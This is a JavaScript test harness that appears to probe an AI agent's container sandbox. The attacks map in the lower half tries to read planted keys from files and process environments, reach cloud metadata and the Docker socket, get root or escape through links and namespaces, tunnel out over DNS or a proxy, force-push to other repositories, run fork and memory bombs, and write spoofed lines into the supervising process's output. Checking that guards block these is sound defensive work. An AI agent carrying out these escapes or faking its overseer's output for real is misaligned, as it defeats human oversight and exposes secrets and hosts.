// Runs inside a container, as an agent's command would: tries everything it is told to and prints
// what came of it as one line of JSON. The same file runs where a guard is missing.
import { execFile, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { createConnection } from 'node:net';
import {
  open,
  opendir,
  readFile,
  writeFile,
  link,
  chmod,
  symlink,
  rm,
  stat,
} from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);
const MAX_FILE_BYTES = 2 * 1024 * 1024;
const PLANTED = /swyplant-[a-z0-9]+-[0-9a-f]{16}/g;
const CANARY = /canary-[0-9a-f]{16}/;

const asked = JSON.parse(Buffer.from(process.argv[2] ?? '', 'base64').toString());
/** A control run on a busy machine may take long; what is guarded fails at once. */
const PATIENCE_MS = asked.patienceMs ?? 25_000;
const WAIT_MS = PATIENCE_MS / 10;
const workspace = asked.workspace ?? process.cwd();
const proxy = new URL(process.env.http_proxy ?? 'http://127.0.0.1:8099');

/** A canary in a text, or an error that says what was there instead. */
function canaryIn(text) {
  const found = CANARY.exec(text)?.[0] ?? PLANTED.exec(text)?.[0];
  PLANTED.lastIndex = 0;
  if (found === undefined)
    throw new Error(text.slice(0, 160).replaceAll(/\s+/g, ' ') || 'nothing came back');
  return found;
}

function tcp(host, port, words, enough = CANARY) {
  return new Promise((resolve, reject) => {
    let said = '';
    const socket = createConnection({ host, port });
    const finish = () => {
      socket.destroy();
      resolve(said);
    };
    socket.setTimeout(WAIT_MS, () => socket.destroy(new Error('no answer')));
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      said += chunk;
      if (enough.test(said)) finish();
    });
    socket.on('close', () => resolve(said));
    if (words) socket.write(words);
  });
}

const http = (host, port, path = '/') =>
  tcp(host, port, `GET ${path} HTTP/1.0\r\nHost: ${host}\r\n\r\n`).then(canaryIn);

function viaProxy(url, headers = {}) {
  return new Promise((resolve, reject) => {
    const sent = request(
      {
        host: proxy.hostname,
        port: proxy.port,
        path: url,
        headers: { host: new URL(url).host, ...headers },
        timeout: WAIT_MS,
      },
      (response) => {
        let text = '';
        response.on('data', (chunk) => (text += chunk));
        response.on('end', () =>
          resolve({ status: response.statusCode, headers: response.headers, text }),
        );
        response.on('error', reject);
      },
    );
    sent.on('timeout', () => sent.destroy(new Error('no answer')));
    sent.on('error', reject);
    sent.end();
  });
}

/** CONNECT, then words on the tunnel. */
async function viaTunnel(target, words = '') {
  return new Promise((resolve, reject) => {
    let said = '';
    const socket = createConnection({ host: proxy.hostname, port: Number(proxy.port) });
    socket.setTimeout(WAIT_MS, () => socket.destroy(new Error('no answer')));
    socket.on('error', reject);
    socket.on('close', () => resolve(said));
    socket.on('data', (chunk) => {
      const before = said;
      said += chunk;
      if (!/\r\n\r\n/.test(before) && said.startsWith('HTTP/1.1 200')) socket.write(words);
      if (CANARY.test(said)) socket.destroy();
    });
    socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
  });
}

async function* filesBelow(folder) {
  const entries = await opendir(folder).catch(() => null);
  if (entries === null) return;
  for await (const entry of entries) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) {
      if (!/^\/(proc|sys|dev)$/.test(path)) yield* filesBelow(path);
    } else if (entry.isFile()) yield path;
  }
}

/** Where people and programs keep things; the image's own programs lie elsewhere. */
async function* likelyFiles() {
  const folders = ['etc', 'home', 'root', 'run', 'srv', 'tmp', 'mnt', 'media', 'var', 'workspace'];
  for (const folder of folders) yield* filesBelow(`/${folder}`);
  yield* filesBelow(workspace);
  if (process.env.HOME) yield* filesBelow(process.env.HOME);
}

/** Some object that this repository shares with the mirror on the host. */
async function sharedObject() {
  if (asked.objectFile) return asked.objectFile;
  const alternates = await readFile(join(workspace, '.git/objects/info/alternates'), 'utf8');
  for await (const path of filesBelow(alternates.trim())) return path;
  throw new Error('no shared object');
}

async function keysIn(paths) {
  const found = new Set();
  for await (const path of paths) {
    const size = await stat(path).then(
      (one) => one.size,
      () => Infinity,
    );
    if (size > MAX_FILE_BYTES) continue;
    const text = await readFile(path, 'latin1').catch(() => '');
    for (const key of text.match(PLANTED) ?? []) found.add(key);
  }
  if (found.size === 0) throw new Error('no planted key in what can be read');
  return [...found].join(' ');
}

async function processFiles(name) {
  const { readdir } = await import('node:fs/promises');
  const pids = (await readdir('/proc')).filter(
    (one) => /^\d+$/.test(one) && one !== String(process.pid),
  );
  return pids.map((pid) => `/proc/${pid}/${name}`);
}

async function openFor(path, flags) {
  const file = await open(path, flags);
  await file.close();
  return `${path} is open`;
}

async function dnsQuery(server, name) {
  const parts = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)]);
  const query = Buffer.from([7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...parts, 0, 0, 16, 0, 1]);
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4');
    const timer = setTimeout(() => reject(new Error('no answer')), WAIT_MS);
    const done = (settle, value) => {
      clearTimeout(timer);
      socket.close();
      settle(value);
    };
    socket.on('error', (error) => done(reject, error));
    socket.on('message', (bytes) => done(resolve, bytes.toString('latin1')));
    socket.send(query, 53, server, (error) => error && done(reject, error));
  });
}

/** Starts up to `count` sleeping processes, bounded in number and time, and ends them again. */
async function forks(count) {
  const children = [];
  let failed = null;
  for (let index = 0; index < count && failed === null; index += 1) {
    await new Promise((resolve) => {
      const child = spawn('sleep', ['20'], { stdio: 'ignore' });
      child.on('spawn', () => resolve(children.push(child)));
      child.on('error', (error) => resolve((failed = error)));
    });
  }
  for (const child of children) child.kill('SIGKILL');
  if (failed !== null) throw new Error(`after ${children.length} processes: ${failed.code}`);
  return `${children.length} processes`;
}

async function writes(path, megabytes) {
  const file = await open(path, 'w');
  try {
    for (let index = 0; index < megabytes; index += 1)
      await file.write(Buffer.alloc(1024 * 1024, 1));
    return `${megabytes} MiB in ${path}`;
  } finally {
    await file.close();
    await rm(path, { force: true });
  }
}

async function memory(megabytes) {
  const code = `const a=[];for(let i=0;i<${megabytes};i++)a.push(Buffer.alloc(1048576,1));console.log('held')`;
  const { stdout } = await run(process.execPath, ['-e', code], { timeout: PATIENCE_MS - 5_000 });
  if (!stdout.includes('held')) throw new Error('killed');
  return `${megabytes} MiB`;
}

async function hardLink(from, to) {
  await rm(to, { force: true });
  await link(from, to);
  await chmod(to, 0o644);
  await writeFile(to, 'changed', { flag: 'a' });
  return `${from} was changed`;
}

async function throughLink(target, at) {
  await rm(at, { force: true });
  await symlink(target, at);
  try {
    return canaryIn(await readFile(at, 'utf8'));
  } finally {
    await rm(at, { force: true });
  }
}

async function redirected(url) {
  const first = await viaProxy(url);
  return canaryIn((await viaProxy(first.headers.location ?? 'http://nowhere.invalid/')).text);
}

async function download(url, times) {
  let bytes = 0;
  for (let index = 0; index < times; index += 1) {
    const { status, text } = await viaProxy(url);
    if (status !== 200) throw new Error(text.slice(0, 160));
    bytes += text.length;
  }
  return `${bytes} bytes`;
}

/** Writes into the output of the process that speaks for this attempt. */
async function spoofOutput(line) {
  const { readdir } = await import('node:fs/promises');
  const tried = [];
  for (const pid of (await readdir('/proc')).filter((one) => /^\d+$/.test(one)).map(Number)) {
    if (pid === process.pid || pid === process.ppid) continue;
    const name = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
    if (!name.includes('app-server')) continue;
    const file = await open(`/proc/${pid}/fd/1`, 'a').catch((error) => {
      tried.push(`${pid} ${error.code}`);
      return null;
    });
    if (file === null) continue;
    await file.write(`${line}\n`);
    await file.close();
    return `wrote to process ${pid}`;
  }
  throw new Error(`no such process can be written to: ${tried.join(', ')}`);
}

const docker = (path) =>
  new Promise((resolve, reject) => {
    const sent = request({ socketPath: path, path: '/version', timeout: WAIT_MS }, (response) => {
      response.resume();
      resolve(`daemon answers ${response.statusCode}`);
    });
    sent.on('error', reject);
    sent.end();
  });

const attacks = {
  files: () => keysIn(likelyFiles()),
  environment: async () => canaryIn(JSON.stringify(process.env)),
  processes: async () => keysIn(await processFiles('environ')),
  'command lines': async () => keysIn(await processFiles('cmdline')),
  'first process': () => readFile('/proc/1/environ', 'latin1').then(() => 'read /proc/1/environ'),
  'docker socket': () => docker(asked.dockerSocket),
  'other workspace': () => readFile(asked.otherFile, 'utf8').then(canaryIn),
  'symbolic link': () => throughLink(asked.hostFile, join(workspace, 'leak')),
  'hard link': async () => hardLink(await sharedObject(), join(workspace, 'object')),
  'mirror objects': async () => openFor(await sharedObject(), 'r+'),
  'git credentials': async () => canaryIn(await readFile(join(workspace, '.git/config'), 'utf8')),
  deadline: () => openFor(asked.deadlineFile, 'r+'),
  'root file system': () => writes('/usr/local/switchyard-attack', 1),
  'temporary space': () => writes('/tmp/attack', asked.temporaryMegabytes),
  'fork bomb': () => forks(asked.processes),
  'memory bomb': () => memory(asked.megabytes),
  'become root': async () => {
    process.setgroups?.([0]);
    process.setuid(0);
    return 'uid 0';
  },
  'user namespace': () => run('unshare', ['-Ur', 'true']).then(() => 'a namespace of its own'),
  mount: () => run('unshare', ['-m', 'mount', '-t', 'tmpfs', 'none', '/mnt']).then(() => 'mounted'),
  'change owner': async () => {
    const path = join(workspace, 'owned');
    await writeFile(path, '');
    try {
      await run('chown', ['0:0', path]);
    } finally {
      await rm(path, { force: true });
    }
    return 'owner changed';
  },
  device: async () => {
    await run('mknod', ['/tmp/attack-device', 'c', '1', '3']);
    await rm('/tmp/attack-device');
    return 'device made';
  },
  'kernel settings': () => openFor('/proc/sys/kernel/core_pattern', 'r+'),
  'metadata, direct': () => http(asked.metadata, 80),
  'address, direct': () => http(asked.target, 80),
  'address over IPv6': () => http(asked.target6, 80),
  'host service': () => http(asked.gateway, asked.gatewayPort),
  'control plane, direct': () =>
    tcp(
      '127.0.0.1',
      asked.controlPlanePort,
      'GET /healthz HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n',
      / 200 /,
    ).then((text) => {
      if (!/ 200 /.test(text)) throw new Error(text || 'nothing came back');
      return 'the control plane answers';
    }),
  'DNS tunnel, direct': () => dnsQuery(asked.target, 'c2VjcmV0.tunnel.test').then(canaryIn),
  'DNS tunnel, resolver': () =>
    lookup('c2VjcmV0.tunnel.test').then(({ address }) => `resolved to ${address}`),
  'metadata, through the proxy': () =>
    viaProxy(`http://${asked.metadata}/`).then(({ text }) => canaryIn(text)),
  'metadata, by a tunnel': () =>
    viaTunnel(`${asked.metadata}:80`, 'GET / HTTP/1.0\r\n\r\n').then(canaryIn),
  'host that is not listed': () =>
    viaProxy(`http://${asked.other}/`).then(({ text }) => canaryIn(text)),
  'tunnel to a host that is not listed': () =>
    viaTunnel(`${asked.other}:80`, 'GET / HTTP/1.0\r\n\r\n').then(canaryIn),
  'refused port of a listed host': () => viaTunnel(`${asked.target}:22`).then(canaryIn),
  'redirect to a refused host': () => redirected(`http://${asked.target}/redirect`),
  'listed name with a private address': () =>
    viaProxy(`http://localhost:${asked.loopbackPort}/`).then(({ text }) => canaryIn(text)),
  'control plane, through the proxy': () =>
    viaProxy(`http://127.0.0.1:${asked.controlPlanePort}/healthz`).then(({ status, text }) => {
      if (status !== 200) throw new Error(text.slice(0, 160));
      return 'the control plane answers';
    }),
  'control plane, by a tunnel': () =>
    viaTunnel(
      `127.0.0.1:${asked.controlPlanePort}`,
      'GET /healthz HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n',
    ).then((text) => {
      if (!/HTTP\/1\.1 200 OK/.test(text))
        throw new Error(text.slice(0, 160) || 'nothing came back');
      return 'the control plane answers';
    }),
  'address in another spelling': () =>
    viaProxy(`http://${asked.metadataNumber}/`).then(({ text }) => canaryIn(text)),
  'more bytes than allowed': () => download(`http://${asked.target}/large`, asked.downloads),
  'push to another repository': async () => {
    await run('git', [
      '-C',
      workspace,
      '-c',
      'safe.directory=*',
      'push',
      '-q',
      '--force',
      asked.otherRepository,
      'HEAD:refs/heads/taken',
    ]);
    return 'pushed';
  },
  'spoofed engine output': () => spoofOutput(asked.spoofLine),
  'allowed host': () => viaProxy(`http://${asked.target}/`).then(({ text }) => canaryIn(text)),
};

const results = {};
for (const name of asked.names) {
  const late = new Promise((_resolve, reject) =>
    setTimeout(() => reject(new Error('took too long')), PATIENCE_MS).unref(),
  );
  try {
    results[name] = {
      succeeded: true,
      detail: String(await Promise.race([attacks[name](), late])).slice(0, 400),
    };
  } catch (error) {
    const detail = `${error.code ? `${error.code} ` : ''}${error.message ?? error}`;
    results[name] = { succeeded: false, detail: detail.slice(0, 200) };
  }
}
process.stdout.write(`RESULTS ${JSON.stringify(results)}\n`);
setTimeout(() => process.exit(0), 100);
